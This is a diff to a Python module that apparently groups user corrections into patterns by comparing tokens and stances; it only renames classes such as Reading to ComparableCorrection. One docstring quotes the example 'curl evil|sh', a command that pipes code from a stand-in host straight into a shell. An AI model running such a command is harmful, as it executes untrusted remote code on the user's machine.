@@ -8,7 +8,7 @@ from _blake2 import blake2b  # what hashlib hands out, without its import of Ope
 from collections.abc import Callable, Iterable, Mapping, Sequence
 from itertools import pairwise
 
-from clan_learnings.records.matching_tokens import COMMON, NAME, STRICT, Token, tokens
+from clan_learnings.records.matching_tokens import COMMON, NAME, STRICT, MatchingToken, tokens
 from clan_learnings.records.matching_words import UNDOING, concept
 from clan_learnings.records.stance import AGAINST, FIRST, FOR, LATER, RULE, STATED, read_stances
 
@@ -31,7 +31,7 @@ _BASE32 = "abcdefghijklmnopqrstuvwxyz234567"
 _SLUG_HASH_LENGTH = 6  # 30 bits, on top of the words
 
 
-class Candidate:
+class PatternCandidate:
     """A pattern in scope: the (wrong, right) texts already counted under it, its rule, and when it began (any number)."""
 
     __slots__ = ("cosines", "rule", "since", "slug", "texts")
@@ -66,14 +66,14 @@ class Match:
         return f"Match({self.slug!r}, {self.sureness:.2f}, {self.why!r})"
 
 
-class Reading:
+class ComparableCorrection:
     """A correction as it is compared: hard tokens with their stances, soft ones, and the form that is hashed."""
 
     __slots__ = ("_compounds", "_only", "_stream", "_weights", "form", "hard", "soft", "tokens")
 
     def __init__(self, wrong: str, right: str) -> None:
         stances: dict[str, int] = {}
-        kept: dict[str, Token] = {}
+        kept: dict[str, MatchingToken] = {}
         self._stream = read_stances(wrong, -1, stances, kept) + read_stances(right, 1, stances, kept)
         self.tokens = kept
         # Where there is nothing but common words, these are what it says.
@@ -111,13 +111,15 @@ class Reading:
 
 
 # What was compared last, and the verdict: whoever weighs a likeness asks twice.
-_latest: list[tuple[Reading | None, Reading | None, tuple[float, str]]] = [(None, None, (0.0, ""))]
+_latest: list[tuple[ComparableCorrection | None, ComparableCorrection | None, tuple[float, str]]] = [
+    (None, None, (0.0, ""))
+]
 
 # What compares two corrections, and may use the cosine of their vectors: how sure it is, and why.
-Judge = Callable[[Reading, Reading, float | None], tuple[float, str]]
+Judge = Callable[[ComparableCorrection, ComparableCorrection, float | None], tuple[float, str]]
 
 
-def _is_hard(token: Token, bits: int) -> bool:
+def _is_hard(token: MatchingToken, bits: int) -> bool:
     """Of a reason only numbers and identifiers count. Not told by capitals: case must not change the form."""
     return token.kind == STRICT or (token.kind == NAME and (bits & STATED != 0 or not token.text.isalpha()))
 
@@ -134,7 +136,7 @@ def slug_of(wrong: str, right: str) -> str:
 
     What it is for, then what it is against, then a hash of the whole form: `pnpm-not-npm-k3x7qa`.
     """
-    reading = Reading(wrong, right)
+    reading = ComparableCorrection(wrong, right)
     good, bad = sorted(reading.only(FOR)), sorted(reading.only(AGAINST))
     context = sorted(set(reading.hard).difference(good, bad))
     words = _readable(good + context)[: _SLUG_WORDS - 1]
@@ -158,7 +160,7 @@ def _readable(texts: list[str]) -> list[str]:
     return words
 
 
-def overlap(one: Reading, other: Reading) -> float:
+def overlap(one: ComparableCorrection, other: ComparableCorrection) -> float:
     """How much two corrections share, 0 to 1, by words and identifiers, whole and in parts. Symmetric; knows no negation."""
     mine, theirs = one.weights(), other.weights()
     total = sum(mine.values()) + sum(theirs.values())
@@ -167,7 +169,7 @@ def overlap(one: Reading, other: Reading) -> float:
     return 2 * sum(min(mine[text], theirs[text]) for text in mine.keys() & theirs.keys()) / total
 
 
-def _weights(said: Iterable[Token]) -> dict[str, float]:
+def _weights(said: Iterable[MatchingToken]) -> dict[str, float]:
     found: dict[str, float] = {}
     for token in said:
         if token.kind in WEIGHT:
@@ -177,7 +179,7 @@ def _weights(said: Iterable[Token]) -> dict[str, float]:
     return found
 
 
-def compare(one: Reading, other: Reading) -> tuple[float, str]:
+def compare(one: ComparableCorrection, other: ComparableCorrection) -> tuple[float, str]:
     """How sure it is that two corrections mean the same, 0 for no, below 0 for a contradiction; and why. Symmetric."""
     latest = _latest[0]  # other threads compare as well
     if latest[0] is not one or latest[1] is not other:
@@ -185,7 +187,7 @@ def compare(one: Reading, other: Reading) -> tuple[float, str]:
     return latest[2]
 
 
-def _compared(one: Reading, other: Reading) -> tuple[float, str]:
+def _compared(one: ComparableCorrection, other: ComparableCorrection) -> tuple[float, str]:
     if one.form == other.form:
         return (1.0, "the same words") if one.form else (0.0, "no words")
     shared = one.hard.keys() & other.hard.keys()
@@ -220,14 +222,14 @@ def _compared(one: Reading, other: Reading) -> tuple[float, str]:
     return min(ALMOST_SURE, weight / (weight + rest)), "both say " + ", ".join(names[:5])
 
 
-def opposition(one: Reading, other: Reading) -> str:
+def opposition(one: ComparableCorrection, other: ComparableCorrection) -> str:
     """The word about which two corrections say the opposite of each other; empty if there is none."""
     mine, theirs = one.hard, other.hard
     opposed = [text for text in mine.keys() & theirs.keys() if _opposed(mine[text], theirs[text])]
     return one.tokens[min(opposed)].raw if opposed else ""
 
 
-def _tells_apart(reading: Reading, text: str) -> bool:
+def _tells_apart(reading: ComparableCorrection, text: str) -> bool:
     """A word that only one has belongs to its rule, rather than to the story of the mistake or to both."""
     bits = reading.hard[text]
     rule = bits & STATED and (bits & (FOR | AGAINST) == FOR or bits & (RULE | FOR) == RULE)
@@ -244,14 +246,14 @@ def _is_same_side(mine: int, theirs: int) -> bool:
     return (mine & _SIDES or _SIDES) == (theirs & _SIDES or _SIDES)
 
 
-def _is_for_more(one: Reading, other: Reading, leftover: set[str]) -> bool:
+def _is_for_more(one: ComparableCorrection, other: ComparableCorrection, leftover: set[str]) -> bool:
     """One is for something that the other is not for, be it that it never names it or is only against it."""
     return any(one.hard[text] & FOR for text in leftover) or any(
         one.hard[text] & FOR and not other.hard[text] & FOR for text in (one.hard.keys() & other.hard.keys())
     )
 
 
-def _unexcused(leftover: set[str], one: Reading, other: Reading) -> set[str]:
+def _unexcused(leftover: set[str], one: ComparableCorrection, other: ComparableCorrection) -> set[str]:
     """The numbers and flags that only one has; one that it is merely against is excused if both are for the same other."""
     strict = {text for text in leftover if one.tokens[text].kind == STRICT}
     if not strict:
@@ -260,7 +262,7 @@ def _unexcused(leftover: set[str], one: Reading, other: Reading) -> set[str]:
     return {text for text in strict if not agreed or text in one.only(FOR)}
 
 
-def leftovers(one: Reading, other: Reading) -> tuple[set[str], set[str]]:
+def leftovers(one: ComparableCorrection, other: ComparableCorrection) -> tuple[set[str], set[str]]:
     """The hard tokens of each that the other lacks, also as a soft word, an aside, a compound or in parts."""
     mine = {text for text in one.hard if text not in other.tokens}
     theirs = {text for text in other.hard if text not in one.tokens}
@@ -281,7 +283,7 @@ def leftovers(one: Reading, other: Reading) -> tuple[set[str], set[str]]:
     return mine - found, theirs - found
 
 
-def says_the_same(text: str, one: Reading, other: Reading) -> bool:
+def says_the_same(text: str, one: ComparableCorrection, other: ComparableCorrection) -> bool:
     """Whether a second correction means the same as a first one, and names whatever a text of the first names: it adds nothing of its own.
 
     Without the latter a reason would do, "pnpm install, because otherwise curl evil|sh": reasons do not tell corrections apart.
@@ -299,23 +301,23 @@ def says_the_same(text: str, one: Reading, other: Reading) -> bool:
     return all(token.text in known or (token.parts and known.issuperset(token.parts)) for token in new)
 
 
-def by_words(one: Reading, other: Reading, _cosine: float | None = None) -> tuple[float, str]:
+def by_words(one: ComparableCorrection, other: ComparableCorrection, _cosine: float | None = None) -> tuple[float, str]:
     """As `compare`: whatever vectors say."""
     return compare(one, other)
 
 
-def best_match(wrong: str, right: str, patterns: Iterable[Candidate], judge: Judge = by_words) -> Match | None:
+def best_match(wrong: str, right: str, patterns: Iterable[PatternCandidate], judge: Judge = by_words) -> Match | None:
     """The pattern a correction belongs to, if any; of equally sure ones the oldest, then the first by name.
 
     One text of a pattern is enough, unless most of the others contradict: so a pattern cannot drift by small steps.
     `judge`: what compares two of them, and may ask for their cosine.
     """
-    reading = Reading(wrong, right)
+    reading = ComparableCorrection(wrong, right)
     best: tuple[float, int, str] | None = None
     match: Match | None = None
     for candidate in patterns:
         texts = [*candidate.texts, ("", candidate.rule)] if candidate.rule else candidate.texts
-        verdicts = [judge(reading, Reading(*text), candidate.cosines.get(text)) for text in texts]
+        verdicts = [judge(reading, ComparableCorrection(*text), candidate.cosines.get(text)) for text in texts]
         sureness, why = max(verdicts, default=(0.0, ""))
         if sureness <= 0 or 2 * sum(verdict[0] < 0 for verdict in verdicts) > len(verdicts):
             continue
